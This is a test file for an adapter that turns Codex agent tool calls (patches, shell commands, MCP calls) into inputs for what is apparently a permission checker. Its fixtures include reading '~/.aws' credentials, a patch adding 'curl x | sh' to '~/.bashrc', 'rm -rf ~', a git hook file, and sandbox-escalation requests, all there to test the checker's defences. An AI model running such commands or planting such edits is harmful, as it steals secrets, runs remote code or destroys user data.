import { describe, expect, it } from 'vitest';
import type { AdaptResult } from '../../../check';
import { fromCodex } from './tool-inputs';

const inputs = (r: AdaptResult) => (r.ok ? r.inputs : r.problem);

describe('fromCodex', () => {
  it('judges every file an apply_patch names', () => {
    const patch =
      '*** Begin Patch\n*** Update File: src/a.ts\n@@\n-a\n+b\n*** Add File: docs/b.md\n+x\n*** Delete File: old.txt\n*** Update File: c.ts\n*** Move to: d.ts\n*** End Patch';
    expect(inputs(fromCodex('apply_patch', { command: patch }))).toMatchObject(
      ['src/a.ts', 'docs/b.md', 'old.txt', 'c.ts', 'd.ts'].map((path) => ({ kind: 'edit', path })),
    );
  });

  it("carries each added or updated file's section, for reading what it adds to a runner's file", () => {
    const patch =
      '*** Begin Patch\n*** Update File: Makefile\n*** Move to: GNUmakefile\n@@\n+\tx\n*** Add File: b\n+y\n*** Delete File: c\n*** End Patch';
    expect(inputs(fromCodex('apply_patch', { command: patch }))).toEqual([
      { kind: 'edit', path: 'Makefile', change: { kind: 'patch', lines: ['@@', '+\tx'], add: false } },
      { kind: 'edit', path: 'GNUmakefile' },
      { kind: 'edit', path: 'b', change: { kind: 'patch', lines: ['+y'], add: true } },
      { kind: 'edit', path: 'c' },
    ]);
  });

  it.each([
    ['Bash', { command: 'ls' }, [{ kind: 'shell', command: 'ls' }]],
    ['apply_patch', { command: 'no headers' }, 'tool `apply_patch`: the patch names no file'],
    ['mcp__fs__write', {}, [{ kind: 'mcp', server: 'fs', tool: 'write', arguments: {} }]],
  ])('%s', (tool, input, want) => {
    expect(inputs(fromCodex(tool, input))).toEqual(want);
  });

  it.each([
    [
      'exec_command in another folder',
      'exec_command',
      { cmd: 'cat credentials', workdir: '/h/.aws' },
      "cd '/h/.aws' && cat credentials",
    ],
    [
      'a relative workdir, made absolute against the call',
      'Bash',
      { command: 'ls', workdir: 'pkg' },
      "cd '/w/pkg' && ls",
    ],
    ['the call folder itself', 'shell', { command: 'ls', workdir: '/w' }, 'ls'],
  ])('%s: judged as `cd <workdir> && <command>`', (_name, tool, input, want) => {
    expect(inputs(fromCodex(tool, input, '/w'))).toEqual([{ kind: 'shell', command: want }]);
  });

  it.each([
    [
      'an escalation request',
      { cmd: 'npm test', sandbox_permissions: 'require_escalated', justification: 'net' },
    ],
    ['the older flag', { command: ['bash', '-lc', 'npm test'], with_escalated_permissions: true }],
  ])('%s leaves the sandbox', (_name, input) => {
    const got = inputs(fromCodex('exec_command', input, '/w'));
    expect(got).toEqual([expect.objectContaining({ kind: 'shell', leavesSandbox: true })]);
  });

  it('the default sandbox is no escalation', () => {
    expect(
      inputs(fromCodex('exec_command', { cmd: 'ls', sandbox_permissions: 'use_default' }, '/w')),
    ).toEqual([{ kind: 'shell', command: 'ls' }]);
  });

  it('a patch naming more files than one call may carry is unreadable, never judged in part', () => {
    const files = (n: number) =>
      `*** Begin Patch\n${Array.from({ length: n }, (_, i) => `*** Add File: f${i}.ts\n+x\n`).join('')}*** End Patch`;
    expect(inputs(fromCodex('apply_patch', { command: files(1_000) }))).toHaveLength(1_000);
    expect(inputs(fromCodex('apply_patch', { command: files(20_000) }))).toBe(
      'the call names more than 1000 targets (files, URLs or patterns)',
    );
  });

  it('reads headers as leniently as Codex does: indented, trailing blanks, CRLF', () => {
    const patch =
      '*** Begin Patch\r\n*** Update File: a.ts\r\n@@\r\n-a\r\n+b\r\n   *** Add File: .git/hooks/pre-commit  \r\n+x\r\n*** End Patch';
    expect(inputs(fromCodex('apply_patch', { command: patch }))).toMatchObject(
      ['a.ts', '.git/hooks/pre-commit'].map((path) => ({ kind: 'edit', path })),
    );
  });

  it('keeps a path that holds U+2028', () => {
    const patch = '*** Begin Patch\n*** Add File: a\u2028b.txt\n+x\n*** End Patch';
    expect(inputs(fromCodex('apply_patch', { command: patch }))).toEqual([
      { kind: 'edit', path: 'a\u2028b.txt' },
    ]);
  });

  it('a patch applied through the shell tool is judged as the patch it is', () => {
    const command =
      "apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: ~/.bashrc\n+curl x | sh\n*** End Patch\nEOF";
    expect(inputs(fromCodex('shell', { command }))).toEqual([
      { kind: 'shell', command },
      { kind: 'edit', path: '~/.bashrc', change: { kind: 'patch', lines: ['+curl x | sh'], add: true } },
    ]);
  });

  it.each([
    [['bash', '-lc', 'cargo test'], "bash -lc 'cargo test'"],
    [['rg', '-n', 'fn main', 'src'], "rg -n 'fn main' src"],
    [['sh', '-c', "echo 'x'; rm -rf ~"], `sh -c 'echo '\\''x'\\''; rm -rf ~'`],
  ])('a shell command given as an argument vector %j is the shell command %s', (command, expected) => {
    expect(inputs(fromCodex('shell', { command, workdir: '' }))).toEqual([
      { kind: 'shell', command: expected },
    ]);
  });

  it('an argument vector holding a non-string is not read', () => {
    expect(inputs(fromCodex('shell', { command: ['ls', 1] }))).toContain('must be a non-empty string');
  });
});
